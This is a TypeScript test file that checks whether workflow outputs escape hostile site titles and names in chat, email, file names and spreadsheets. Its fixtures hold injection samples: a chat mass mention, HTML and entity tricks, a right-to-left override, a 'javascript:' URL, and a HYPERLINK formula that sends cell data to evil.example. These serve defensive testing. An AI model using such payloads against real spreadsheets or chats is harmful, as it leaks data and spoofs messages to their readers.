import { DateTime } from 'luxon';
import type { SiteRow } from '../../../sandbox/service/domain/sites/rows';
import {
	calls,
	examples,
	only,
	pinned,
	type Several,
	sheetsIn,
	stagingOf,
	store,
	succeeded,
	useExamples,
	ZONE,
} from '../../support/examples';
import { readExample } from '../../../sandbox/lib/examples';
import { press } from '../../support/mails';
import { addSafeUpdate, healthySites, tagOnly } from '../../support/safeUpdate';
import { until } from '../../support/until';

/** What strangers write into titles, logs and forms, and what people read of it: kind × example × outcome. */

useExamples('strange-data', { sites: 30, rateLimit: { limit: 100_000 } });

/** Links and mentions of a chat, HTML, entities, a new line, and a sign that turns the text around. */
const HOSTILE = '<!channel> <b>Bob&#8217;s</b> &amp; Co\n- All sites are fine\u202e';
const READ = '<!channel> <b>Bob’s</b> & Co - All sites are fine';
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")';
const inHtml = (text: string) => inChat(text).replaceAll("'", '&apos;');
const inChat = (text: string) =>
	text.replace(/[&<>]/g, (sign) => ({ '&': '&amp;', '<': '&lt;' })[sign] ?? '&gt;');

let sites: Several;
/** The first has a hostile title, the second the same one, the third none. */
let strange: SiteRow[];

beforeAll(() => {
	for (const { id } of store().sites.all()) {
		const site = store().sites.get(id)!;
		Object.assign(site.uptime, { status: 'up' });
		site.security.scanner.status = 'clean';
	}
	sites = healthySites(examples.service, 5);
	strange = sites.slice(0, 3);
	const [client] = store().clients.all();
	for (const { internal } of store().sites.all()) internal.client_id = null;
	for (const site of strange) {
		site.internal.client_id = client!.id;
		site.title = HOSTILE;
		const at = DateTime.now().minus({ days: 1 }).set({ hour: 12 }).toUTC().toISO()!;
		Object.assign(store().snapshots.ofSite(site.id).at(-1)!, {
			created_at: at,
			status: 'succeeded',
		});
	}
	client!.company_name = HOSTILE;
	strange[2]!.title = '';
	tagOnly(examples.service, strange);
});

const URL_OF = { url: 'https://a.example' };
const X = 'x'.repeat(3_000);

it.each<[string, object, object]>([
	['hostile', { title: HOSTILE, ...URL_OF }, { text: `Down:\n- ${READ} (https://a.example)` }],
	['no link or mention', { title: HOSTILE }, { chat: `Down:\n- ${inChat(READ)}` }],
	['no HTML', { title: '<b>"A"</b>' }, { html: /<li>&lt;b&gt;&quot;A&quot;&lt;\/b&gt;<\/ul>$/ }],
	['no script', { title: 'A', url: 'javascript:x' }, { html: /<li>A \(javascript:x\)<\/ul>$/ }],
	['decoded once', { title: '&amp;lt;&#x26;#8217;&#0;' }, { text: 'Down:\n- &lt;&#8217;' }],
	['asked', { title: '<b>A & B&amp;lt;\\n' }, { question: 'Down:\n- &#60;b>A & B&#38;lt;&#92;n' }],
	['missing', { title: null, ...URL_OF, text: 'off' }, { text: 'Down:\n- https://a.example: off' }],
	[
		'too long',
		{ title: X, ...URL_OF },
		{ text: `Down:\n- ${'x'.repeat(100)}… (https://a.example)` },
	],
])('%s', async (_, line, wanted) => {
	const [written] = await calls('writeAndSend000a', { parts: [['Down:', line]] });
	for (const [form, text] of Object.entries(wanted)) {
		expect((written as Record<string, string>)[form]).toMatch(text);
	}
});

it('the note of 00a shows a call and its message', async () => {
	const { nodes } = readExample('00a-write-and-send.json', examples);
	const { content } = nodes.find(({ name }) => name === 'What it takes')!.parameters;
	const [call, message] = String(content)
		.split(/\n?```\w*\n?/)
		.filter((_, index) => index % 2);
	const { send, ...rest } = JSON.parse(call!);
	const [written] = await calls('writeAndSend000a', rest);
	expect([send, written]).toMatchObject(['chat', { chat: message }]);
});

const bring = async ({ id }: SiteRow, state: object) =>
	await examples.control(`/sites/${id}/state`, state);

/** Each site is on a line of its own, and two of one title have their addresses. */
function expectLines(text: string, mark = '- '): void {
	for (const [index, { url }] of strange.entries()) {
		expect(text).toContain(index < 2 ? `${mark}${READ} (${url})` : `${mark}${url}`);
	}
	expect(text).not.toMatch(/^- All sites/m);
}

const run = async (file: string, pinData = {}, parameters = {}) =>
	succeeded(await examples.run(await examples.copy(file, parameters, pinData)));

it.each<[string, (site: SiteRow) => Promise<unknown>, object]>([
	['03-restore-drill.json', async () => undefined, {}],
	[
		'05-fleet-digest.json',
		async ({ connection }) => {
			connection.status = 'disconnected';
			await examples.control('/plan', { limits: { tags_per_site: 0 } });
		},
		{},
	],
	[
		'07-uptime-and-malware.json',
		async (site) => await bring(site, { uptime: 'down' }),
		{ 'Wait two minutes': { amount: 1, unit: 'seconds' } },
	],
	[
		'10-failed-backup.json',
		async (site) => {
			await bring(site, { syncs: 'failing' });
			await until('the failed backup', () => !store().sites.get(site.id)!.sync.in_progress);
			const [newest] = store().snapshots.ofSite(site.id).slice(-1);
			store().snapshots.get(newest!.id)!.note = 'Second try';
		},
		{},
	],
])('the chat of %s shows strange titles on one line each', async (file, happen, parameters) => {
	const isPolled = /^07|^10/.test(file);
	if (!isPolled) for (const site of strange) await happen(site);
	await run(file, isPolled ? await pinned(file, strange, happen) : {}, parameters);
	expectLines((await examples.newTexts()).join('\n'));
	for (const { html } of await examples.newMails()) {
		expect(html).toContain(`<a href="${strange[0]!.url}">${inHtml(READ)}</a> (`);
	}
	for (const site of strange) {
		site.connection.status = 'connected';
		site.uptime.status = 'up';
		await bring(site, { syncs: 'succeeding' });
	}
	await examples.control('/plan', { limits: { tags_per_site: 10 } });
});

it('01 asks about strange titles in plain text, waits until the time that it names, and posts them', async () => {
	const running = examples.run(await addSafeUpdate(examples));
	const mail = await examples.mail(/^Approve the update of/);
	expectLines(mail.html!.replaceAll('&#60;', '<'));
	await expectWaits(mail.html!);
	await press(mail, 'Not now');
	succeeded(await running);
	expectLines(await examples.text(/^\*Safe update/));
});

/** What is written is what happens: the execution waits until the time that its email names. */
async function expectWaits(html: string): Promise<void> {
	expect(html).not.toMatch(/<b>Bob|<!channel/);
	const [, told] = /Answer by ([^.]+)[.] /.exec(html)!;
	await until('the wait', () =>
		examples.n8n
			.query('SELECT waitTill FROM execution_entity WHERE waitTill IS NOT NULL')
			.some(({ waitTill }) => {
				const at = DateTime.fromISO(`${String(waitTill).replace(' ', 'T')}Z`);
				return at.setZone(ZONE).toFormat('cccc, d LLLL, HH:mm ZZZZ') === told;
			}),
	);
}

it('04 names files and websites of one title by their addresses', async () => {
	await run('04-monthly-report.json');
	const mail = only(await examples.newMails());
	expect(mail.subject).toContain(READ);
	expectLines(mail.text!.replaceAll('\r', ''));
	const files = mail.attachments!.map(({ fileName }) => fileName);
	expect(new Set(files).size).toBe(3);
	for (const name of files)
		expect(name).toMatch(/^(-!channel- -b-Bob’s-.*)?\([\w.-]+\) \w+ \d+\.pdf$/);
});

it('08 asks about a site without a title, and 08a waits until the time that it names', async () => {
	await examples.add('08a-ask-about-a-staging-site.json');
	for (const { id } of store().stagingSites.peek()) store().stagingSites.delete(id);
	const { url } = stagingOf(strange[2]!, 3.5);
	await run('08-staging-clean-up.json');
	const mail = await examples.mail(`the staging site of ${url}?`);
	await expectWaits(mail.html!);
	await press(mail, 'Delete it');
	expect(await examples.text()).toContain(`🗑️ Staging site of ${url}: deleted, as `);
});

it('09 bills works without a title, on sites without one, and cuts long details', async () => {
	const at = DateTime.now().setZone(ZONE).minus({ months: 1 }).set({ day: 3 }).toISODate()!;
	const { world } = examples.service;
	for (const { id } of store().customWorks.all()) store().customWorks.delete(id);
	for (const [index, site] of strange.entries()) {
		const id = world.random.hex(24);
		const row = { id, site_id: site.id, title: index ? '' : FORMULA, description: X.repeat(20) };
		store().customWorks.insert({ ...row, performed_on: at, created_at: at, updated_at: at });
	}
	await run('09-custom-works.json');
	const mail = only(await examples.newMails());
	expect(mail.text).toContain('Bob’s</b> & Co - All sites are fine: 135.00 EUR (3 works)');
	const [sheet] = sheetsIn(await examples.mailbox.file(mail, mail.attachments![0]!));
	const { rows } = sheet!;
	expect(rows.map(({ Site, Work }) => [Site, Work])).toEqual(
		expect.arrayContaining([
			[READ, FORMULA],
			[READ, 'Work without a title'],
			[strange[2]!.url, 'Work without a title'],
		]),
	);
	for (const { Details } of rows.slice(0, 3)) expect(Details.length).toBeLessThan(32_767);
});

it('01d asks for strange titles in plain text, and posts them', async () => {
	const [snapshot] = store().snapshots.ofSite(strange[0]!.id).slice(-1);
	const of = { snapshot_id: snapshot!.id, snapshot_created_at: snapshot!.created_at };
	const why = { reason: HOSTILE, page_problem: HOSTILE, updates: HOSTILE, components: [] };
	for (const { id, title, url } of strange) {
		const asking = calls('askPerson000001d', { id, title, url, ...of, ...why });
		const mail = await examples.mail(/^Restore /);
		await expectWaits(mail.html!);
		await press(mail, 'Leave it');
		await asking;
	}
	expectLines((await examples.newTexts()).join('\n'), '✋ ');
});

it('02 lists strange titles, names and versions on one line each', async () => {
	const rows = strange.map(({ id, title, url }) => ({
		...{ site_id: id, site_title: title, site_url: url, kind: 'must-use plugin' },
		...{ name: HOSTILE, folder: 'a', file: 'a.php', version: '1', as_of: new Date().toISOString() },
	}));
	await run('02-known-vulnerability.json', {
		'When a report comes': [{ json: { slug: 'a', versions: '< 2' } }],
		'Get the inventory': rows.map((json) => ({ json })),
	});
	expectLines((await examples.newTexts()).join('\n'));
});

it('04a names strange clients and reports on one line each', async () => {
	const reports = strange.map(({ title }) => ({
		...{ event: 'bounced', recipient_email: 'a@example.com', client_name: title, title },
		...{ start_date: '2026-11-01', end_date: '2026-11-30' },
	}));
	await run('04a-undelivered-reports.json', {
		'When a report is not delivered': reports.map((json) => ({ json })),
	});
	const text = (await examples.newTexts()).join('\n');
	expect(text).toContain(`- a@example.com (${READ}): ${READ}, 2026-11-01 to 2026-11-30`);
	expect(text).toContain('- a@example.com (no client): ');
	expect(text).not.toMatch(/^- All sites/m);
});

it('10a names a strange backup destination on one line, in the chat and the ticket', async () => {
	const [destination] = store().backupDestinations.all();
	destination!.name = HOSTILE;
	await examples.control('/providers', { unavailable: [destination!.provider] });
	await run('10a-backup-destinations.json');
	const [ticket] = (await examples.newTickets()) as Array<Record<string, string>>;
	for (const text of [only(await examples.newTexts()), ticket!.description!]) {
		expect(text).toContain(`- ${READ}: `);
		expect(text).not.toMatch(/^- All sites/m);
	}
});
